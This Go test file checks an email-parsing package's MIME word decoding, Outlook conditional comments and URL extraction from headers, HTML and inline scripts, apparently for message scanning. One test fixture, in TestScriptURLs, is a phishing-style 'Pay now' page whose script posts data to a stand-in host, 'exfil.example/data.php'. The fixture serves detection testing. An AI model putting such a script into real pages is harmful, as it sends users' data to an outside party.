package mailbox

import (
	"bytes"
	"io"
	"mime"
	"slices"
	"strconv"
	"strings"
	"testing"

	"golang.org/x/text/transform"
)

// TestIsASCII compares isASCII, which reads 16 bytes a step, with a byte
// loop, over every length up to 40 and every place of one non-ASCII byte.
func TestIsASCII(t *testing.T) {
	for n := 0; n <= 40; n++ {
		b := bytes.Repeat([]byte{'a'}, n)
		if !isASCII(b) {
			t.Errorf("isASCII(%d ASCII bytes) = false", n)
		}
		for i := range n {
			for _, c := range []byte{0x80, 0xc3, 0xff} {
				b[i] = c
				if isASCII(b) {
					t.Errorf("isASCII(%q) = true, byte %d is %#x", b, i, c)
				}
			}
			b[i] = 0x7f
			if !isASCII(b) {
				t.Errorf("isASCII(%q) = false", b)
			}
			b[i] = 'a'
		}
	}
}

// TestOutlookReads checks the conditions of conditional comments as
// Outlook reads them: mso and vml true at any version, ie and the unknown
// false, with "!", "&", "|" and brackets.
func TestOutlookReads(t *testing.T) {
	for _, tt := range []struct {
		cond string
		want bool
	}{
		{" mso", true},
		{" gte mso 9", true},
		{" (gte mso 12)&(lte mso 15) ", true},
		{" mso | IE", true},
		{" (mso)|(ie)", true},
		{" gte vml 1", true},
		{" true", true},
		{" !mso", false},
		{" (!mso)&(!ie)", false},
		{" !(gte mso 9)", false},
		{" lt IE 9", false},
		{" false", false},
		{" mso)", false}, // unbalanced: not read
		{"", false},
	} {
		if got := outlookReads([]byte(tt.cond)); got != tt.want {
			t.Errorf("outlookReads(%q) = %v, want %v", tt.cond, got, tt.want)
		}
	}
}

// wordsByMime decodes s as decodeWords did before appendWords: with
// mime.WordDecoder, charset's charsets read through a CharsetReader, the
// value as written where DecodeHeader fails.
func wordsByMime(s string) string {
	d := mime.WordDecoder{CharsetReader: func(cs string, input io.Reader) (io.Reader, error) {
		enc, err := charset(cs)
		if err != nil {
			return nil, err
		}
		if enc == nil {
			return input, nil
		}
		raw, err := io.ReadAll(input)
		if err != nil {
			return nil, err
		}
		out, _, err := transform.Bytes(enc.NewDecoder(), raw)
		if err != nil {
			return nil, err
		}
		return bytes.NewReader(out), nil
	}}
	if out, err := d.DecodeHeader(s); err == nil {
		return out
	}
	return s
}

// wordSeeds are header values with encoded words of every kind
// appendWords tells apart.
var wordSeeds = []string{
	"=?utf-8?B?SGVsbG8gaHR0cDovL2EuZXhhbXBsZS8=?=",
	"=?UTF-8?Q?see_http://a.example/=C3=A9t=C3=A9?= after",
	"before =?utf-8?q?a?= =?utf-8?q?b?=\r\n =?utf-8?q?c?= x =?utf-8?q?d?=",
	"=?iso-8859-1?q?caf=E9_=FC?= and =?ISO-8859-1?B?6Q==?=",
	"=?us-ascii?q?a=FFb=80?=",
	"=?koi8-r?b?8NLJ18XU?= =?windows-1252?q?=93quoted=94?=",
	"=?shift_jis?B?gqCCooKk?=",
	"=?x-no-such?q?a?= http://a.example/",
	"=?utf-8?b?!!!?= =?utf-8?q?=ZZ?= =?utf-8?x?a?= =?utf-8?q?a=4?=",
	"=?utf-8?q?\x01?= =?utf-8??a?= =?utf-8?q??= =?utf-8?b??=",
	"=? =?utf-8 =?utf-8? =?utf-8?q =?utf-8?q? =?utf-8?q?a",
	"=?utf-8*en?q?a?= =?utf8?q?b?= =?\"utf-8\"?q?c?=",
	"=?utf-8?B?SGVs\r\nbG8=?= =?utf-8?B?SGVsbG8?= =?utf-8?B?SGVsbG8===?=",
	"x =?utf-8?q?a?=\té =?utf-8?q?b?=",
	"plain http://no.words/",
}

// TestAppendWords: appendWords decodes every seed as mime.WordDecoder
// does (wordsByMime), keeps what dst held, and allocates nothing for
// words in UTF-8.
func TestAppendWords(t *testing.T) {
	for _, s := range wordSeeds {
		want := wordsByMime(s)
		if got := decodeWords(s); got != want {
			t.Errorf("decodeWords(%q) = %q, want %q", s, got, want)
		}
		out, ok := appendWords([]byte("prefix:"), s)
		if ok && string(out) != "prefix:"+want || !ok && (string(out) != "prefix:" || want != s) {
			t.Errorf("appendWords(prefix, %q) = %q, %v; want %q", s, out, ok, "prefix:"+want)
		}
	}
	value := strings.Repeat("=?utf-8?B?djlmL2RxQUFaZGVHbTJ2MklXVkNWVVltSi85b0tCLzZYcndZRFdnY1BoZE5z?=\r\n ", 200)
	buf := make([]byte, 0, 64<<10)
	if n := testing.AllocsPerRun(20, func() { buf, _ = appendWords(buf[:0], value) }); n != 0 {
		t.Errorf("appendWords allocates %v times for words in UTF-8", n)
	}
}

// FuzzAppendWords compares appendWords with mime.WordDecoder on any value.
func FuzzAppendWords(f *testing.F) {
	for _, s := range wordSeeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if got, want := decodeWords(s), wordsByMime(s); got != want {
			t.Errorf("decodeWords(%q) = %q, mime gives %q", s, got, want)
		}
	})
}

// TestHeaderFilterDecoded: HeaderFilter tests a field with encoded words
// on the text they decode to: a field whose words decode to no URL (as
// Microsoft 365's base64 X-Microsoft-Antispam-Message-Info does not) is
// no part, one whose words hide a URL is, with the URL in its text.
func TestHeaderFilterDecoded(t *testing.T) {
	msg := "From: a@example.org\n" +
		"Comments: =?utf-8?q?nothing_here?=\n" +
		"Keywords: =?utf-8?B?c2VlIGh0dHA6Ly9hLmV4YW1wbGUvcGFnZQ==?=\n" +
		"X-Note: plain http://b.example/\n\nbody\n"
	may := func(b []byte) bool { return bytes.Contains(b, []byte("http")) }
	r := NewReader(strings.NewReader(msg), HeaderFilter(may))
	var got []string
	for {
		p, err := r.Next()
		if err != nil {
			break
		}
		body, _ := io.ReadAll(p.Body)
		if strings.HasPrefix(p.Path, "header:") {
			got = append(got, p.Path+" "+string(body))
		}
	}
	want := []string{"header:Keywords see http://a.example/page", "header:X-Note plain http://b.example/"}
	if strings.Join(got, "|") != strings.Join(want, "|") {
		t.Errorf("header parts %q, want %q", got, want)
	}
}

// TestScriptWords: the words of a script that hold a URL ("://", or its
// slashes as JSON escapes them), each on a line, the same whatever the
// pieces the script comes in; a word over maxScriptWord is passed over,
// and what is kept stops at maxScriptURLs.
func TestScriptWords(t *testing.T) {
	script := "$.post('https://a.example/mail.php', {x: 1});\r\nwindow.location.href=\"http://b.example/go?a=1&b=2\";\n" +
		`{"@context": "http://schema.org", "url": "https:\/\/c.example\/order\/1", "img": "https:\u002F\u002Fd.example\u002Fi.png"}` +
		" var s = `see ftp://e.example/f` + '<a href=x>' + \"a:b//c\" + 'mailto:x@y.example';"
	want := "https://a.example/mail.php\nhttp://b.example/go?a=1&b=2\nhttp://schema.org\n" +
		`https:\/\/c.example\/order\/1` + "\n" + `https:\u002F\u002Fd.example\u002Fi.png` + "\nftp://e.example/f\n"
	for n := 1; n <= len(script); n++ {
		var s scriptWords
		for b := []byte(script); len(b) > 0; {
			k := min(n, len(b))
			s.write(b[:k])
			b = b[k:]
		}
		s.endWord()
		if string(s.out) != want {
			t.Fatalf("in pieces of %d: %q, want %q", n, s.out, want)
		}
	}

	var s scriptWords
	s.write([]byte("x = 'http://long.example/" + strings.Repeat("a", maxScriptWord) + "'; y = 'http://after.example/';"))
	s.endWord()
	if string(s.out) != "http://after.example/\n" {
		t.Errorf("a word over maxScriptWord: %.100q", s.out)
	}
	s = scriptWords{}
	for i := 0; i < 2*maxScriptURLs/32; i++ {
		s.write([]byte(" http://many.example/" + strconv.Itoa(1000000+i)))
	}
	s.endWord()
	if len(s.out) > maxScriptURLs || len(s.out) < maxScriptURLs-64 {
		t.Errorf("kept %d bytes of words, want at most %d", len(s.out), maxScriptURLs)
	}
}

// TestScriptURLs: a script's URLs are read from an HTML part, after its
// visible text before it, with a reader that holds the whole script and
// with one that drops it as it reads (ElideLong), a script of 300 KiB
// too, its first URL in what is dropped; the script's other words are
// not text.
func TestScriptURLs(t *testing.T) {
	filler := strings.Repeat("var a = b + c; // no address here\n", 300<<10/34)
	for _, script := range []string{"", filler} {
		in := message("<p>Pay now</p><script>$.post('https://exfil.example/data.php', d);\n"+script+"window.location.href = \"http://go.example/next\";</script><p>after</p>",
			"Content-Type: text/html")
		for _, opts := range [][]Option{nil, {ElideLong(4096)}} {
			r := NewReader(strings.NewReader(in), opts...)
			p, err := r.Next()
			if err != nil {
				t.Fatal(err)
			}
			body, _ := io.ReadAll(p.Body)
			want := "Pay\nnow\nhttps://exfil.example/data.php\nhttp://go.example/next\nafter"
			if got := strings.Join(strings.Fields(string(body)), "\n"); got != want {
				t.Errorf("script of %d bytes, options %d: %.300q, want %q", len(script), len(opts), got, want)
			}
		}
	}
}

// TestSchemeRelativeTargets: a link target written "//host/path" (RFC
// 3986 §4.2) is read with https, in an attribute, a srcset, a style's
// url(); "///path" and "//" alone are no such reference.
func TestSchemeRelativeTargets(t *testing.T) {
	in := message(`<img src="//img.example/i.png"><a href=" //a.example/x?y=1 ">a</a>`+
		`<img srcset="//s.example/2.png 2x"><td style="background:url(//bg.example/b.png)">t</td>`+
		`<style>@font-face{src:url('//fonts.example/f.woff')}</style><a href="///local/x">l</a><a href="//">e</a>`+
		`<a href="//[2001:db8::1]/v6">v</a>`, "Content-Type: text/html")
	parts, _ := readAll(t, strings.NewReader(in))
	if len(parts) != 1 {
		t.Fatalf("parts = %v", parts)
	}
	want := []string{"https://img.example/i.png", "https://a.example/x?y=1", "https://s.example/2.png", "https://bg.example/b.png",
		"https://fonts.example/f.woff", "https://[2001:db8::1]/v6"}
	if urls := scanURLs(t, parts[0].Body); !slices.Equal(urls, want) {
		t.Errorf("URLs = %q, want %q", urls, want)
	}
}
